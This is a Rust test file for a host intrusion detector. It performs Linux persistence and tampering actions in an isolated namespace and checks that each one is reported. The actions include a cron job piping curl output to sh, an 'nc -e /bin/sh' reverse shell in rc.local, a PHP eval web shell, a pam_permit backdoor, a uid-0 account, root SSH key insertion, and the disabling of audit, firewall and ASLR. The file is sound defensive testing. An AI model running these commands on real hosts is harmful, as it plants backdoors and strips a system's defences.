//! Every kind of file that matters, changed by the tool that changes it on a real host: the rule that customers rely on, and
//! what a person reads. In a mount namespace whose `/etc` and spools are its own.

use std::fs;
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::filesystems::in_namespace;
use crate::host::private_places;
use crate::lab::{Lab, PATIENCE, rule};

/// What is done by a shell, the rule, and words of the title. `$T` is the watched tree.
type Act = (&'static str, &'static str, &'static str);

fn findings_of(lab: &Lab) -> Vec<Value> {
    lab.findings.lock().unwrap().clone()
}

/// Does each act in turn; all that are not told as they should be are named in the end.
fn check(lab: &Lab, acts: &[Act]) {
    let mut missing = Vec::new();
    for (script, wanted, words) in acts {
        lab.forget();
        let out = Command::new("sh").args(["-ec", script]).env("T", lab.tree()).output().unwrap();
        assert!(out.status.success(), "{script}: {}", String::from_utf8_lossy(&out.stderr));
        let is_it = |finding: &Value| {
            let title = finding["title"].as_str().unwrap();
            rule(finding) == *wanted && title.to_lowercase().contains(&words.to_lowercase())
        };
        let deadline = std::time::Instant::now() + PATIENCE;
        while !findings_of(lab).iter().any(is_it) && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        let found = findings_of(lab);
        match found.iter().find(|finding| is_it(finding)) {
            Some(finding) if finding["attack"].as_array().is_some_and(|attack| !attack.is_empty()) => {}
            Some(finding) => missing.push(format!("{script}: no technique: {finding}")),
            None => {
                let told: Vec<String> =
                    found.iter().map(|other| format!("{} {}", rule(other), other["title"])).collect();
                missing.push(format!("{script}: wanted {wanted} \"{words}\", told {told:#?}"));
            }
        }
        let all = format!("{found:?}");
        assert!(!all.contains("Geheim"), "a hash got out: {script}");
    }
    assert!(missing.is_empty(), "{}", missing.join("\n"));
}

const ACCOUNTS: &[Act] = &[
    ("useradd -M -N -g bin alice", "account.created", "account alice was created"),
    (
        "usermod -aG sudo alice",
        "account.changed",
        "alice was added to group sudo, whose members are as good as root",
    ),
    ("passwd -d alice", "account.changed", "no password"),
    ("usermod -p 'Geheim$1$x' alice", "account.changed", "alice"),
    ("usermod -L alice", "account.locked", "alice"),
    ("usermod -o -u 0 alice", "account.uid0", "alice is root now"),
    ("usermod -s /bin/bash bin", "account.changed", "bin may log in now"),
    ("userdel -f alice", "account.removed", "account alice was removed"),
    ("groupadd ops", "account.changed", "group ops was created"),
    (
        "echo '%ops ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ops && visudo -cqf /etc/sudoers.d/ops",
        "privilege.sudoers",
        "every member of group ops may run anything",
    ),
    (
        "ssh-keygen -q -t ed25519 -N '' -C eve -f $T/key && cp $T/key.pub /root/.ssh/authorized_keys",
        "account.key-added",
        "(eve) was added to root's",
    ),
    ("echo 'PermitEmptyPasswords yes' > /etc/ssh/sshd_config.d/x.conf", "defence.service", "password"),
    ("ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key", "trust.ssh-host-key", "host key"),
    (
        "echo 'auth sufficient pam_permit.so' >> /etc/pam.d/common-auth",
        "persistence.pam",
        "lets whoever passes",
    ),
    (
        "mkdir -p $T/lib/security && cp /bin/true $T/lib/security/pam_evil.so",
        "persistence.pam",
        "part of PAM was added",
    ),
];

const JOBS: &[Act] = &[
    ("echo '17 * * * * root /opt/x' >> /etc/crontab", "persistence.cron", "cron job of root was added"),
    (
        "echo '* * * * * nobody /opt/x --password=Zq7secret' > /etc/cron.d/x",
        "persistence.cron",
        "--password=[redacted]",
    ),
    (
        "printf '@reboot /opt/y\\n' | crontab -u root -",
        "persistence.cron",
        "cron job of root was added: @reboot /opt/y",
    ),
    ("printf '#!/bin/sh\\n/opt/x\\n' > /etc/cron.hourly/x", "persistence.cron", "cron.hourly/x"),
    ("printf '#!/bin/sh\\n/opt/x\\n' > /etc/cron.daily/x", "persistence.cron", "cron.daily/x"),
    ("printf '#!/bin/sh\\n/opt/x\\n' > /etc/cron.weekly/x", "persistence.cron", "cron.weekly/x"),
    (
        "printf '#!/bin/sh\\ncurl http://192.0.2.1/a | sh\\n' > /etc/cron.monthly/x",
        "persistence.cron",
        "fetches a program and runs it",
    ),
    (
        "echo '1 5 job /opt/z' > /etc/anacrontab",
        "persistence.cron",
        "cron job of root was added: 1 5 job /opt/z",
    ),
    (
        "printf '#!/bin/sh\\n# atrun uid=0 gid=0\\ncd /root\\n/opt/x\\n' > /var/spool/cron/atjobs/a0000101b2c3d4",
        "persistence.at",
        "job of at",
    ),
    (
        "printf '[Service]\\nExecStart=/opt/x\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/x.service",
        "persistence.systemd",
        "x.service runs /opt/x",
    ),
    (
        "SYSTEMD_OFFLINE=1 systemctl --root=/ enable x.service",
        "persistence.systemd",
        "x.service is started with multi-user.target from now on",
    ),
    (
        "printf '[Timer]\\nOnCalendar=hourly\\n' > /etc/systemd/system/x.timer",
        "persistence.systemd",
        "x.timer, OnCalendar=hourly",
    ),
    (
        "mkdir /etc/systemd/system/cron.service.d && printf '[Service]\\nExecStartPre=/opt/x\\n' > /etc/systemd/system/cron.service.d/o.conf",
        "persistence.systemd",
        "runs /opt/x",
    ),
    (
        "mkdir -p /etc/systemd/system-generators && cp /bin/true /etc/systemd/system-generators/g",
        "persistence.systemd",
        "generator",
    ),
    (
        "printf '#!/bin/sh\\n# Default-Start: 2 3\\n/opt/x\\n' > /etc/init.d/x && chmod +x /etc/init.d/x",
        "persistence.init",
        "init.d/x",
    ),
    (
        "printf '#!/bin/sh\\nnc -e /bin/sh 192.0.2.1 4444\\n' > /etc/rc.local",
        "persistence.init",
        "opens a shell over the network",
    ),
    ("echo 'export LD_PRELOAD=/tmp/x.so' > /etc/profile.d/x.sh", "persistence.shell", "loads a library"),
    ("echo 'alias sudo=/opt/x' > /root/.bashrc", "persistence.shell", ".bashrc"),
    ("printf '#!/bin/sh\\n/opt/x\\n' > /etc/update-motd.d/99-x", "persistence.motd", "99-x"),
    (
        "printf '[Desktop Entry]\\nExec=/opt/x\\n' > /etc/xdg/autostart/x.desktop",
        "persistence.autostart",
        "x.desktop",
    ),
    (
        "git init -q $T/repo && printf '#!/bin/sh\\n/opt/x\\n' > $T/repo/.git/hooks/post-checkout",
        "persistence.git-hook",
        "post-checkout",
    ),
    (
        "mkdir -p $T/lib/python3/dist-packages && echo 'import os' > $T/lib/python3/dist-packages/evil.pth",
        "persistence.interpreter",
        "evil.pth",
    ),
];

const SYSTEM: &[Act] = &[
    ("echo /opt/lib > /etc/ld.so.conf.d/x.conf", "persistence.preload", "looked for in /opt/lib"),
    ("echo evil > /etc/modules-load.d/x.conf", "persistence.module", "evil is loaded at each start"),
    (
        "echo 'install usb-storage /bin/false' > /etc/modprobe.d/x.conf",
        "persistence.module",
        "runs a command",
    ),
    (
        "mkdir -p $T/lib/modules/6.1 && cp /bin/true $T/lib/modules/6.1/evil.ko",
        "persistence.module",
        "a kernel module was added",
    ),
    (
        "echo 'ACTION==\"add\", RUN+=\"/opt/x\"' > /etc/udev/rules.d/99-x.rules",
        "persistence.udev",
        "runs a program",
    ),
    ("echo '192.0.2.9 deb.debian.org' >> /etc/hosts", "trust.hosts", "deb.debian.org now leads to 192.0.2.9"),
    ("echo 'nameserver 192.0.2.1' > /etc/resolv.conf", "trust.resolver", "looked up at 192.0.2.1"),
    ("sed -i 's/^passwd:.*/passwd: files evil/' /etc/nsswitch.conf", "trust.resolver", "passwd: files evil"),
    (
        "echo 'deb [trusted=yes] http://192.0.2.1/ x main' > /etc/apt/sources.list.d/x.list",
        "trust.package-source",
        "without their signatures",
    ),
    (
        "echo 'DPkg::Post-Invoke {\"/opt/x\";};' > /etc/apt/apt.conf.d/99x",
        "trust.package-source",
        "package manager now runs",
    ),
    ("head -c 64 /dev/urandom > /etc/apt/trusted.gpg.d/x.gpg", "trust.package-key", "x.gpg"),
    (
        "printf '[x]\\nbaseurl=http://192.0.2.1/\\n' > /etc/yum.repos.d/x.repo",
        "trust.package-source",
        "now taken from",
    ),
    (
        "mkdir -p $T/usr && openssl req -x509 -newkey rsa:2048 -nodes -keyout /dev/null -subj /CN=x -out /etc/ssl/certs/x.pem 2>/dev/null",
        "trust.certificate",
        "x.pem",
    ),
    (
        "echo 'kernel.randomize_va_space=0' > /etc/sysctl.d/x.conf",
        "defence.kernel-setting",
        "kernel.randomize_va_space=0",
    ),
    ("echo '-D' > /etc/audit/rules.d/x.rules", "defence.audit", "auditing is switched off"),
    ("echo 'auth.* stop' > /etc/rsyslog.d/00-x.conf", "defence.logging", "00-x.conf"),
    ("echo 'flush ruleset' >> /etc/nftables.conf", "defence.firewall", "flush ruleset"),
    ("echo SELINUX=permissive > /etc/selinux/config", "defence.mac", "selinux/config"),
    ("cp /bin/true /boot/vmlinuz-9", "file.created", "vmlinuz-9"),
    ("cp /bin/true $T/tool && chmod 4755 $T/tool", "privilege.setuid", "acts as root now"),
    (
        "cp /bin/true $T/game && chgrp 27 $T/game && chmod 2755 $T/game",
        "privilege.setgid",
        "acts as group 27 now",
    ),
    ("cp /bin/true $T/ping && setcap cap_net_raw+ep $T/ping", "privilege.capability", "net_raw"),
    ("mkdir \"$T/...\"", "file.hidden", "a name that hides"),
    ("cp /bin/sleep $T/sshd", "file.masquerade", "under the name of another one, sshd"),
    ("cp /bin/sleep $T/dropped", "file.created", "put where anybody may write"),
    ("touch -d 2001-01-01 $T/old", "file.timestomp", "set back"),
    ("chmod 666 $T/docker.sock", "file.attributes", "command the container engine"),
    ("echo '<?php echo 1;' > /srv/www/index.php", "persistence.web-script", "a web script was added"),
    ("echo '<?php echo 2;' > /srv/www/uploads/a.php", "persistence.web-script", "only uploads are expected"),
    ("echo '<?php eval($_POST[1]);' > /srv/www/b.php", "persistence.web-script", "runs what it is sent"),
    (
        "echo 'php_value auto_prepend_file /srv/www/x' > /srv/www/.htaccess",
        "persistence.web-script",
        "run other files as scripts",
    ),
];

fn on_this_host(test: &str, acts: &[Act]) {
    if !in_namespace(test) {
        return;
    }
    let mut lab = Lab::new("auto");
    lab.config.rung = None;
    private_places(&lab);
    let socket = UnixListener::bind(lab.tree().join("docker.sock")).unwrap();
    fs::write(lab.tree().join("old"), "one").unwrap();
    fs::set_permissions(lab.tree().join("docker.sock"), std::os::unix::fs::PermissionsExt::from_mode(0o660))
        .unwrap();
    let places = ["/etc", "/root", "/boot", "/var/spool/cron"].map(Path::new);
    lab.config.quiet_trees = vec!["/srv/www".into()];
    lab.config.trees.extend(places.map(Path::to_path_buf));
    lab.config.exclude = vec!["/etc/.pwd.lock".to_owned(), "/etc/*.lock".to_owned()];
    lab.start();
    check(&lab, acts);
    drop(socket);
    lab.stop();
}

#[test]
fn accounts_and_what_opens_them() {
    on_this_host("kinds::accounts_and_what_opens_them", ACCOUNTS);
}

#[test]
fn what_runs_by_itself() {
    on_this_host("kinds::what_runs_by_itself", JOBS);
}

#[test]
fn what_the_system_trusts_and_is_defended_by() {
    on_this_host("kinds::what_the_system_trusts_and_is_defended_by", SYSTEM);
}
